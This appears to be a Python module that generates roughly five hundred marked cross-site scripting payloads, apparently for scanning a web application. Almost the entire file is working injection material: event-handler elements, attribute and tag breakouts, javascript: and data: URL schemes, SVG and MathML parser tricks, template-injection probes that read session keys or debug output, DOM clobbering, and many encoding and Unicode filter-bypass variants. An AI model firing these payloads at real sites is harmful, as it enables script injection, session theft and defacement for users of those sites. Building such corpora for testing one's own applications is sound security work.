"""What an attacker writes: some five hundred texts that run a script wherever one page forgets to escape.

Made of shapes that are documented by browsers' own specifications: elements that load, events,
addresses that are programs, ways out of attributes, comments, scripts and styles, other languages
inside HTML (SVG, MathML, templates, Markdown), and encodings. Each element carries MARK, so that what
got into a page is found even if it ran nothing.
"""

import base64
import itertools
from collections.abc import Callable
from urllib.parse import quote

MARK = "xssmark"
RUN = "alert(1)"
LOADING = [  # events that fire without anybody's doing, on the element that fires them
    ("img", "src=x", "onerror"), ("img", "src=/static/base/favicon.svg", "onload"),
    ("image", "src=x", "onerror"), ("svg", "", "onload"), ("body", "", "onload"),
    ("body", "", "onpageshow"), ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"),
    ("video", "", "onloadstart"), ("input", "autofocus", "onfocus"), ("input", "autofocus", "onfocusin"),
    ("select", "autofocus", "onfocus"), ("textarea", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"), ("a", "autofocus tabindex=1", "onfocus"),
    ("details", "open", "ontoggle"), ("iframe", "", "onload"), ("iframe", "src=x", "onerror"),
    ("object", "data=x", "onerror"), ("embed", "src=x", "onerror"), ("script", "src=x", "onerror"),
    ("link", "rel=stylesheet href=x", "onerror"), ("style", "", "onload"), ("marquee", "", "onstart"),
    ("marquee", "loop=1 width=0", "onfinish"), ("div", "style=animation:a1s", "onanimationstart"),
    ("xss", "autofocus tabindex=1", "onfocus"), ("div", "popover id=p", "onbeforetoggle"),
    ("track", "src=x default", "onerror"), ("source", "src=x", "onerror"), ("frameset", "", "onload"),
]  # fmt: skip
ACTING = ["onclick", "onmouseover", "onpointerenter", "onkeydown", "onsubmit", "oninput", "oncut"]
WAYS_OUT = [  # of the place in which the text stands
    "{0}", '">{0}', "'>{0}", "</textarea>{0}", "</title>{0}", "</script>{0}", "</style>{0}",
    "-->{0}", "</select>{0}", "</option></select>{0}", "]]>{0}", "</noscript>{0}", "`>{0}",
    '" x="{0}', "</details>{0}", "</template>{0}", "\n\r\n{0}", "\u2028{0}", "x\x00{0}", "&quot;&gt;{0}",
]  # fmt: skip
ATTRIBUTES = [  # no element of their own: out of an attribute into another
    '" {0}="alert(1)" autofocus x="', "' {0}='alert(1)' autofocus x='", " {0}=alert(1) autofocus ",
    '"\n{0}\n=\nalert(1) autofocus//', "\"/{0}=alert(1)/autofocus/\"", "` {0}=alert(1) autofocus `",
]  # fmt: skip
SCHEMES = [
    "javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "java\nscript:{0}", " javascript:{0}",
    "\x01javascript:{0}", "javascript&colon;{0}", "javascript&#58;{0}", "&#106;avascript:{0}",
    "javascript://%0a{0}", "javascript://host.example/%0d%0a{0}", "vbscript:msgbox(1)",
    "data:text/html,<script>{0}</script>", "data:text/html;base64,{1}", "data:image/svg+xml,<svg/onload={0}>",
    "blob:{0}", "view-source:javascript:{0}", "https://host.example/#javascript:{0}", "//host.example/{0}",
]  # fmt: skip
CARRIERS = [
    "{0}", '<a xssmark href="{0}">x</a>', "<form xssmark action='{0}'><button>x</button></form>",
    '<iframe xssmark src="{0}"></iframe>', '<object xssmark data="{0}"></object>',
    '<meta xssmark http-equiv=refresh content="0;url={0}">', '<base xssmark href="{0}//">',
    '<button xssmark formaction="{0}">x</button>', '<svg><a xssmark xlink:href="{0}"><text>x</text></a></svg>',
    "[x]({0})", "![x]({0})", "<{0}>", "[x]: {0}",
]  # fmt: skip
FOREIGN = [  # SVG, MathML, templates, and what parsers take differently than people
    "<svg><script xssmark>alert(1)</script></svg>", "<svg><script xssmark>alert&#40;1&#41;</script>",
    "<svg><animate xssmark onbegin=alert(1) attributeName=x dur=1s>", "<svg><set xssmark onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><img xssmark src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><use xssmark href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x'/></svg>",
    "<svg><style><img xssmark src=x onerror=alert(1)></style></svg>", "<svg><title><img xssmark src=x onerror=alert(1)></title></svg>",
    "<math><mtext><table><mglyph><style><img xssmark src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><a xssmark xlink:href=javascript:alert(1)>x</a></math>", "<math><maction xssmark actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<noscript><p title='</noscript><img xssmark src=x onerror=alert(1)>'>", "<template><img xssmark src=x onerror=alert(1)></template>",
    "<textarea><img xssmark title='</textarea><img xssmark src=x onerror=alert(1)>'>", "<xmp><img xssmark title='</xmp><img xssmark src=x onerror=alert(1)>'>",
    "<!--><img xssmark src=x onerror=alert(1)>-->", "<!--<img src='--><img xssmark src=x onerror=alert(1)>'>", "<![CDATA[<img xssmark src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img xssmark src=x onerror=alert(1)>", "<!doctype html><img xssmark src=x onerror=alert(1)>", "</br/><img xssmark src=x onerror=alert(1)>",
    "<img xssmark src=x onerror=alert(1)//", "<img/xssmark/src=x/onerror=alert(1)>", "<img\x0cxssmark\x0csrc=x\x0conerror=alert(1)>",
    "<IMG XSSMARK SRC=x OnErRoR=alert(1)>", "<<img xssmark src=x onerror=alert(1)>>", "<img xssmark src=x onerror=\"alert(1)\"", "<img xssmark src=`x`onerror=alert(1)>",
    "<img xssmark src=x onerror=&#97;lert(1)>", "<img xssmark src=x onerror=alert&lpar;1&rpar;>", "<img xssmark src=x onerror=window['al'+'ert'](1)>",
    "<img xssmark src=x onerror=eval(atob('YWxlcnQoMSk='))>", "<img xssmark src=x onerror=top[/al/.source+/ert/.source](1)>", "<img xssmark src=x onerror=import('data:text/javascript,alert(1)')>",
    "<img xssmark srcset='x 1x' onerror=alert(1)>", "<picture><source srcset=x><img xssmark onerror=alert(1)></picture>", "<video xssmark poster=x onerror=alert(1) src=x>",
    "<script xssmark>alert(1)</script>", "<script xssmark src=data:text/javascript,alert(1)></script>", "<script xssmark type=module>alert(1)</script>",
    "<script\x20xssmark\x0a>alert(1)</script\x20>", "<scr<script xssmark>ipt>alert(1)</scr</script>ipt>", "<script xssmark>/*", "*/alert(1)</script>",
    "<script xssmark>/*{0}*/alert(1)//", "';alert(1)//", "\";alert(1)//", "`;alert(1)//", "\\';alert(1)//", "\\u0027;alert(1)//", "</script><script xssmark>alert(1)//",
    "${alert(1)}", "`${alert(1)}`", "{{constructor.constructor('alert(1)')()}}", "{{ 7|add:7 }}{% now 'Y' %}", "{% include 'desk/base.html' %}", "{{ request.session.session_key }}",
    "{% debug %}", "{%raw%}<img xssmark src=x onerror=alert(1)>{%endraw%}", "<%= alert(1) %>", "#{alert(1)}", "[[alert(1)]]", "${{<%[%'\"}}%\\", "{{'a'.constructor.prototype.charAt=[].join}}",
    "<style xssmark>@import'javascript:alert(1)';</style>", "<style xssmark>*{background:url(javascript:alert(1))}</style>", "<link xssmark rel=stylesheet href=data:text/css,*%7bcolor:red%7d>",
    "<p xssmark style=background:url(javascript:alert(1))>x", "<div xssmark style='width:expression(alert(1))'>", "<link xssmark rel=prefetch href=//host.example/x>", "<link xssmark rel=import href=x>",
    "<iframe xssmark srcdoc='<script>parent.alert(1)</script>'>", "<iframe xssmark srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;></iframe>", "<object xssmark data=data:text/html,<script>alert(1)</script>>",
    "<embed xssmark src=data:text/html,<script>alert(1)</script>>", "<applet xssmark code=x>", "<portal xssmark src=x>", "<isindex xssmark type=image src=x onerror=alert(1)>", "<keygen xssmark autofocus onfocus=alert(1)>",
    "<form xssmark id=location><input name=href></form>", "<a xssmark id=defaultView><a id=defaultView name=x>", "<img xssmark name=cookie><img name=currentScript>", "<form xssmark><input name=action><input name=submit></form>",
    "<input xssmark type=image src=x onerror=alert(1)>", "<input xssmark form=judge name=note value=x>", "<button xssmark form=judge>x</button>", "<input xssmark type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
    "<div xssmark contenteditable autofocus onfocus=alert(1)>x", "<dialog xssmark open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>", "<button popovertarget=x>x</button><xss xssmark popover id=x onbeforetoggle=alert(1)>",
]  # fmt: skip


FIRST = [  # one for each kind of place in which a text can stand: they are in every run
    f'"><img {MARK} src=x onerror={RUN}>', f"'><svg {MARK} onload={RUN}>", f'" autofocus onfocus={RUN} x="',
    f"</textarea><script {MARK}>{RUN}</script>", f"<img {MARK} src=x onerror={RUN}>", f"javascript:{RUN}",
]  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once, in an order that mixes the shapes."""
    found = [*_elements(), *_attributes(), *_addresses(), *FOREIGN, *_encoded()]
    return list(dict.fromkeys([*FIRST, *_mixed(list(dict.fromkeys(found)))]))


def alone() -> list[str]:
    """Those that mean something only where they begin: an address that is a program."""
    return [scheme.format(RUN, _page()) for scheme in SCHEMES]


def beside(most: int) -> list[str]:
    """The others, several in one text of at most so many signs: each ends what stands before it."""
    found = [""]
    for text in (one for one in payloads() if one not in alone()):
        if found[-1] and len(found[-1]) + 1 + len(text) > most:
            found.append("")
        found[-1] = f"{found[-1]} {text}".strip(" ")
    return found


def _mixed(unique: list[str]) -> list[str]:
    step = 7  # coprime to the length: neighbours differ in shape, every text comes once
    while len(unique) % step == 0:
        step += 2
    return [unique[n * step % len(unique)] for n in range(len(unique))]


def _elements() -> list[str]:
    elements = [f"<{tag} {MARK} {attrs} {event}={RUN}>" for tag, attrs, event in LOADING]
    ways = [way.format(one) for way, one in zip(itertools.cycle(WAYS_OUT), elements, strict=False)]
    first = [way.format(elements[0]) for way in WAYS_OUT]
    script = [way.format(f"<script {MARK}>{RUN}</script>") for way in WAYS_OUT]
    svg = [way.format(f"<svg {MARK} onload={RUN}>") for way in WAYS_OUT]
    acting = [f"<b {MARK} {event}={RUN}>x</b>" for event in ACTING]
    return [*elements, *ways, *first, *script, *svg, *acting]


def _attributes() -> list[str]:
    events = ["onfocus", "onmouseover", "onclick", "onanimationstart"]
    return [shape.format(event) for shape in ATTRIBUTES for event in events]


def _addresses() -> list[str]:
    return [carrier.format(scheme) for carrier in CARRIERS for scheme in alone()]


def _page() -> str:
    return base64.b64encode(f"<script>{RUN}</script>".encode()).decode()


def _encoded() -> list[str]:
    """The same few, written otherwise: what decodes twice, or folds, makes markup of them."""
    plain = [f"<img {MARK} src=x onerror={RUN}>", f'"><script {MARK}>{RUN}</script>']
    ways: list[Callable[[str], str]] = [
        quote,
        lambda t: quote(quote(t)),
        lambda t: "".join(f"&#{ord(c)};" for c in t),
        lambda t: "".join(f"&#x{ord(c):x}" for c in t),
        lambda t: "".join(f"&#{ord(c):07d};" for c in t),
        lambda t: "".join(f"\\u{ord(c):04x}" for c in t),
        lambda t: "".join(f"\\x{ord(c):02x}" for c in t),
        lambda t: t.replace("<", "&lt;").replace(">", "&gt;"),
        lambda t: t.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
        lambda t: t.replace("<", "＜").replace(">", "＞"),  # full width: folds to ASCII under NFKC
        lambda t: t.replace("<", "﹤").replace(">", "﹥"),
        lambda t: t.replace("<", "‹").replace(">", "›"),
        lambda t: t.replace("<", "<\u200b").replace("s", "ſ"),  # long s: upper case is S
        lambda t: t.replace("i", "ı").replace("k", "\u212a"),
        lambda t: "".join(f"{c}\u0338" if c in "<>" else c for c in t),
        lambda t: f"\u202e{t}\u202c",
        lambda t: f"\ufeff{t}",
        lambda t: t.replace("<", "+ADw-").replace(">", "+AD4-"),
        lambda t: t.encode("utf-16-le").decode("latin-1"),
        lambda t: base64.b64encode(t.encode()).decode(),
        lambda t: t.replace("<", "\x3c").upper(),
        lambda t: t.replace("=", "\u003d\t"),
        lambda t: t + "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    ]
    return [way(text) for text in plain for way in ways]
